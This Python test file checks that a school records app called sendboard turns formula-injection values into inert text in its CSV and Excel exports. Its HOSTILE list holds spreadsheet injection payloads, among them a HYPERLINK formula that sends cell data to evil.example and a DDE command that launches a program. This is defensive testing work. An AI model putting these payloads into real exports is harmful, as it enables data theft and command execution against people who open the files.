"""Every CSV and Excel file sendboard writes goes through the one export cleaner: hostile values (formulas
typed as names, usernames, notes and commentary) come back as inert text, never as formula cells."""
from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from sendboard import audit, cli, clock, exports, ui
from sendboard.app_db import open_database
from sendboard.db import close_all
from sendboard.scope import Scope

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1",
           "-2+3", "\t=1+1", "\r=1+1"]
STARTS = exports.FORMULA_STARTS


def test_inert_prefixes_only_text_that_could_start_a_formula():
    assert [exports.inert(v) for v in ("=1", "+1", "-1", "@A", "\t=1", "\r=1")] == \
        ["'=1", "'+1", "'-1", "'@A", "'\t=1", "'\r=1"]
    assert [exports.inert(v) for v in ("Amy", "a=b", "", 5, -3.5, None)] == ["Amy", "a=b", "", 5, -3.5, None]


def assert_no_formula_in_xlsx(data: bytes, *, expect_hostile: bool = True) -> int:
    """Read back with openpyxl: no formula cell, no text that starts like one; returns hostile cells seen."""
    book = load_workbook(io.BytesIO(data))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(STARTS), (sheet.title, cell.coordinate, cell.value)
                    seen += any(cell.value == "'" + h for h in HOSTILE)
    if expect_hostile:
        assert seen, "the hostile values should be in the file, made inert"
    return seen


def assert_no_formula_in_csv(text: str) -> int:
    seen = 0
    for row in csv.reader(io.StringIO(text)):
        for field in row:
            if field.startswith(STARTS):
                float(field)  # only a plain number (a negative figure) may start with '-' or '+'
            seen += any(field == "'" + h for h in HOSTILE)
    assert seen, "the hostile values should be in the file, made inert"
    return seen


@pytest.fixture
def hostile_db(fixture_path, viewers):
    db = open_database(fixture_path)
    cur = db.cursor()
    for i, value in enumerate(HOSTILE, start=1):
        cur.execute("UPDATE pupils SET first_name = $v, last_name = $v WHERE pupil_id = $p", {"v": value, "p": i})
        audit.record(db, value, "sign_in_failed", object_type="user", object_id=value, detail=value)
    cur.execute("INSERT INTO data_version SELECT max(version) + 1, current_timestamp FROM data_version")
    return db


def test_table_downloads_csv_and_excel(hostile_db):
    frame = hostile_db.cursor().execute(
        "SELECT pupil_id, first_name, last_name, -1.5 AS change FROM pupils ORDER BY pupil_id").df()
    assert_no_formula_in_csv(exports.csv_bytes(frame).decode())
    assert_no_formula_in_xlsx(ui.excel_bytes({"pupils": frame}))


def test_audit_log_download(hostile_db):
    frame = hostile_db.cursor().execute("SELECT * FROM audit_log ORDER BY audit_id").df()
    assert_no_formula_in_csv(exports.csv_bytes(frame).decode())
    assert_no_formula_in_xlsx(ui.excel_bytes({"audit_log": frame}))


def test_command_line_table_export(hostile_db, fixture_path, tmp_path):
    close_all()
    out_csv, out_xlsx = tmp_path / "p.csv", tmp_path / "p.xlsx"
    assert cli.main(["export", "--table", "pupils", "--out", str(out_csv), "--db", str(fixture_path)]) == 0
    assert cli.main(["export", "--table", "pupils", "--format", "xlsx", "--out", str(out_xlsx), "--db", str(fixture_path)]) == 0
    assert_no_formula_in_csv(out_csv.read_text())
    assert_no_formula_in_xlsx(out_xlsx.read_bytes())
    assert cli.main(["export", "--table", "audit_log", "--format", "xlsx", "--out", str(out_xlsx), "--db", str(fixture_path)]) == 0
    assert_no_formula_in_xlsx(out_xlsx.read_bytes())


def test_subject_access_workbook_and_zip(hostile_db, fixture_path, tmp_path):
    upn = hostile_db.cursor().execute("SELECT upn FROM pupils WHERE pupil_id = 1").fetchone()[0]
    close_all()
    xlsx, z = tmp_path / "sar.xlsx", tmp_path / "sar.zip"
    assert cli.main(["export", "--pupil", upn, "--out", str(xlsx), "--db", str(fixture_path)]) == 0
    assert cli.main(["export", "--pupil", upn, "--format", "zip", "--out", str(z), "--db", str(fixture_path)]) == 0
    assert_no_formula_in_xlsx(xlsx.read_bytes())
    with zipfile.ZipFile(z) as archive:
        pupils_csv = archive.read("pupils.csv").decode()
        assert_no_formula_in_csv(pupils_csv)
        for name in archive.namelist():
            for row in csv.reader(io.StringIO(archive.read(name).decode())):
                for field in row:
                    if field.startswith(STARTS):
                        float(field)


def test_governors_pack_workbook(hostile_db, viewers):
    from sendboard.governors.commentary import save_commentary
    from sendboard.governors.figures import build_pack
    from sendboard.governors.pack import OVERALL, excel_bytes

    head = viewers["head"]
    hostile_db.cursor().execute("UPDATE schools SET name = $n WHERE school_id = 1", {"n": "=1+1 Academy"})
    save_commentary(hostile_db, Scope(head, clock.today()), 1, 2025, OVERALL, HOSTILE[0])
    save_commentary(hostile_db, Scope(head, clock.today()), 1, 2025, "register", HOSTILE[1])
    from datetime import date

    pack = build_pack(hostile_db, Scope(head, clock.today()), 1, 2025, date(2026, 1, 15), "=1+1 Academy", "secondary")
    data = excel_bytes(pack, {OVERALL: HOSTILE[0], "register": HOSTILE[1]})
    assert assert_no_formula_in_xlsx(data) >= 2


def test_dates_numbers_and_time_zones_survive_the_cleaner():
    frame = pd.DataFrame({"when": pd.to_datetime(["2026-01-15 10:00"]).tz_localize("UTC"), "n": [3], "x": [-2.5],
                          "note": ["=1"]})
    book = load_workbook(io.BytesIO(exports.excel_bytes({"t": frame})))
    values = [c.value for c in book["t"][2]]
    assert values[1:] == [3, -2.5, "'=1"] and values[0].year == 2026
